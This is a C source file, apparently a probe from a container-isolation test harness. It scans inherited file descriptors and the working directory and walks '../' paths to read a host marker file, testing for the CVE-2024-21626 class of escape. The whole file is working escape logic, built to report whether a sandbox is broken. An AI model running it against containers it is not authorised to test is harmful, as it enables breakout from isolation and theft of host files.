/* CVE-2024-21626 class: a descriptor or working directory inherited from
 * the runtime that points outside the rootfs. Scans descriptors 3..1024
 * and the working directory, and walks ../ from each directory found
 * toward the host's marker file. */
#include "attack.h"

static const char *UP = "../../../../../../../../../../../../../..";

int main(void) {
    protocol_init("leaked_fd");
    const char *marker = param("ATTACK_MARKER"), *secret = param("ATTACK_SECRET");
    char rel[4096];
    snprintf(rel, sizeof rel, "%s%s", UP, marker);
    int inherited = 0;
    for (int fd = 3; fd < 1024; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0) continue;
        char p[64], link[512] = "";
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        readlink(p, link, sizeof link - 1);
        inherited++;
        info("fd %d: %s (mode %o)", fd, link, st.st_mode & S_IFMT);
        if (S_ISDIR(st.st_mode)) {
            int e = try_secret_at(fd, rel, secret);
            info("fd %d ../ walk: %s", fd, ename(e));
            if (e == 0) { verdict("ESCAPED", "read the host file through inherited fd %d", fd); return 0; }
        }
    }
    char cwd[4096] = "";
    if (!getcwd(cwd, sizeof cwd)) snprintf(cwd, sizeof cwd, "(unreachable: %s)", ename(errno));
    info("cwd: %s", cwd);
    int e = try_secret_at(AT_FDCWD, rel, secret);
    info("cwd ../ walk: %s", ename(e));
    if (e == 0) { verdict("ESCAPED", "read the host file through the working directory"); return 0; }
    e = try_secret_at(AT_FDCWD, marker, secret);
    if (e == 0) { verdict("ESCAPED", "read the host file by its absolute path"); return 0; }
    info("descriptors from 3 on: %d", inherited);
    if (inherited)
        verdict("HARMLESS", "inherited descriptors lead nowhere outside the rootfs");
    else
        verdict("BLOCKED", "no inherited descriptor, working directory inside the rootfs");
    return 0;
}
